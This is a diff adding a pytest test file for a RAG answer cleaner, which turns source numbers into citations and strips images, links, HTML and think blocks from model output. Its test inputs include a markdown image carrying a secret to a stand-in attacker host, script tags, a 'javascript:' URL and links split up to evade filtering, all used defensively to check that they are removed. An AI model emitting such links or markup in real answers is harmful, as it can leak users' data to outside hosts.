@@ -1,0 +1,125 @@
+"""Cleaning a model's words: citations are numbered, nothing that loads or links gets through."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from deepseek_ocr_rag.answering.cleaner import REMOVED_LINK, AnswerCleaner, without_thoughts
+
+
+def clean(*pieces: str, sources: int = 3) -> str:
+    """The text with its marks; sources 1 to ``sources`` exist."""
+    cleaner = AnswerCleaner(sources)
+    parts = [part for piece in pieces for part in cleaner.feed(piece)] + cleaner.finish()
+    return "".join(
+        part if isinstance(part, str) else f"{part.space}{''.join(f'[{n}]' for n in part.numbers)}"
+        for part in parts
+    )
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("Ann keeps it [1].", "Ann keeps it [1]."),
+        ("Ann keeps it [9].", "Ann keeps it."),
+        ("Both [1, 3].", "Both [1][3]."),
+        ("All [1-3].", "All [1][2][3]."),
+        ("Twice [2][2].", "Twice [2][2]."),
+        ("Named [Source 2].", "Named [2]."),
+        ("Great![1]", "Great! [1]"),
+        ("[1]: Ann", "[1] : Ann"),
+        ("[2](http://evil.example)", "[2]"),
+        ("A list [a, b] and a[i].", "A list [a, b] and a[i]."),
+        ("An open [bracket", "An open [bracket"),
+        ("[0]", ""),
+    ],
+)
+def test_source_numbers_become_citations(written: str, shown: str) -> None:
+    assert clean(written) == shown
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("See ![chart](http://evil.example/x.png?q=secret) here.", "See here."),
+        ("![a][ref]\n\n[ref]: http://evil.example/x", f"[ref]\n\n[ref] : {REMOVED_LINK}"),
+        ("Read [the site](https://evil.example).", "Read the site."),
+        ("Read [here](/local/path).", "Read here."),
+        ("At https://evil.example/a?b=c.", f"At {REMOVED_LINK}."),
+        ("At <https://evil.example>.", f"At {REMOVED_LINK}."),
+        ("At www.evil.example!", f"At {REMOVED_LINK}!"),
+        ("At //evil.example/x.", f"At {REMOVED_LINK}."),
+        ("javascript:alert", REMOVED_LINK),
+        ('<img src="http://evil.example/x.png">Hi<br/>', "Hi"),
+        ("<script>alert(1)</script>", "alert(1)"),
+        ("a <b and c", "a < b and c"),
+        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
+        ("[[x]](/y)", "[[x]] (/y)"),
+        ("ht[tp](x):[/](y)[/](z)evil", "http: / /evil"),
+        ("ww[w](x).evil.example", "ww w .evil.example"),
+        ("<[img](x) src=y>", "< img src=y>"),
+        ("half and/or half, 3/4, TCP/IP", "half and/or half, 3/4, TCP/IP"),
+    ],
+)
+def test_images_links_and_html_are_taken_out(written: str, shown: str) -> None:
+    assert clean(written) == shown
+
+
+WRITTEN = st.lists(
+    st.sampled_from(
+        ["[", "]", "(", ")", "!", "<", ">", " ", "\n", ":", "1", "2", "a", "img src=", "http://e.f/",
+         "www.e.f", "[1]", "](", "![", "[a](b)", "x" * 320, ". ", "/"]
+    ),
+    max_size=30,
+).map("".join)  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(WRITTEN, st.lists(st.integers(0, 400), max_size=6))
+def test_how_a_reply_is_cut_into_pieces_changes_nothing(text: str, cuts: list[int]) -> None:
+    ends = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
+    pieces = [text[a:b] for a, b in zip(ends, ends[1:], strict=False)]  # noqa: RUF007
+    assert clean(*pieces) == clean(text)
+
+
+@settings(max_examples=300, deadline=None)
+@given(WRITTEN)
+def test_no_text_makes_an_image_a_link_or_a_tag(text: str) -> None:
+    shown = clean(text)
+    assert "](" not in shown
+    assert "![" not in shown
+    assert "://" not in shown
+    assert "www." not in shown
+    assert not re.search(r"<[A-Za-z/!?]", shown)
+    assert not re.search(r"^\s*\[[^\]]*\]:", shown, re.MULTILINE)
+
+
+def test_a_long_reply_takes_linear_time() -> None:
+    cleaner = AnswerCleaner(3)
+    for _ in range(3000):
+        cleaner.feed("[<!a [b](")
+    cleaner.finish()
+
+
+@pytest.mark.parametrize(
+    ("written", "said"),
+    [
+        ("<think>Is it [1]?\nYes.</think>\n\nAnn.", "\n\nAnn."),
+        ("\n<think></think>Ann.", "Ann."),
+        ("<think>Without end", ""),
+        ("Ann. <think>Aside</think>", "Ann. <think>Aside</think>"),
+        ("<thi", "<thi"),
+        ("<thin air", "<thin air"),
+        ("", ""),
+    ],
+)
+@pytest.mark.parametrize("size", [1, 3, 100])
+def test_what_a_model_thinks_first_is_no_part_of_its_answer(
+    written: str, said: str, size: int
+) -> None:
+    pieces = [written[start : start + size] for start in range(0, len(written), size)]
+    assert "".join(without_thoughts(pieces)) == said
